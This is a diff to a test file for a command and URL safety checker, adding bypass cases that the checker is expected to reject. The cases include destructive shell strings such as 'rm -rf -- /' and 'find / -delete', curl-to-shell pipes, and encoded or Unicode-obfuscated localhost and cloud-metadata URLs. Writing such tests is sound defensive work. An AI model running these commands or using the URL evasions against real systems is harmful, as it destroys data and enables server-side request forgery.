@@ -46,6 +46,10 @@ SHELL_BYPASSES = [
     ("rm -rf //", RM_ROOT),
     ("ls; rm -rf /.", RM_ROOT),  # second command of a list
     ("nice -n 5 rm -rf /", RM_ROOT),
+    ("rm -rf -- /", RM_ROOT),
+    ("rm -rf /bin/../*", RM_ROOT),  # .. back to /
+    ("busybox rm -rf /", RM_ROOT),
+    ("find / -delete", "the command deletes or runs commands on every file from / or the home directory"),
     ("chmod -R 777 /", "the command runs chmod recursively from / or the home directory"),
     ("curl http://x | sh", "the command pipes data into the interpreter 'sh'"),
     ("curl -s x|bash", "the command pipes data into the interpreter 'bash'"),  # no spaces around |
@@ -74,6 +78,12 @@ URL_BYPASSES = [
     ("http://0177.0.0.1/", INTERNAL.format("0177.0.0.1", "127.0.0.1")),  # octal
     ("http://0x7f.1/", INTERNAL.format("0x7f.1", "127.0.0.1")),  # mixed short form
     ("http://127.1/", INTERNAL.format("127.1", "127.0.0.1")),
+    ("http://0x7f.0x0.0x0.0x1/", INTERNAL.format("0x7f.0x0.0x0.0x1", "127.0.0.1")),
+    ("http://\u2460\u2461\u2466.0.0.1/", INTERNAL.format("127.0.0.1", "127.0.0.1")),  # circled digits (NFKC)
+    ("http://127\u30020\u30020\u30021/", INTERNAL.format("127.0.0.1", "127.0.0.1")),  # ideographic full stops
+    ("http://[::]/", INTERNAL.format("[::]", "::")),
+    ("http://[::ffff:a9fe:a9fe]:80/", INTERNAL.format("[::ffff:a9fe:a9fe]", "169.254.169.254")),
+    ("http://127.0.0.1:99999/", "the URL cannot be parsed (Port out of range 0-65535)"),
     ("http://%31%32%37.0.0.1/", INTERNAL.format("127.0.0.1", "127.0.0.1")),  # percent-encoded host
     ("http://[::1]/", INTERNAL.format("[::1]", "::1")),
     ("http://[::ffff:127.0.0.1]/", INTERNAL.format("[::ffff:127.0.0.1]", "127.0.0.1")),  # IPv4-mapped
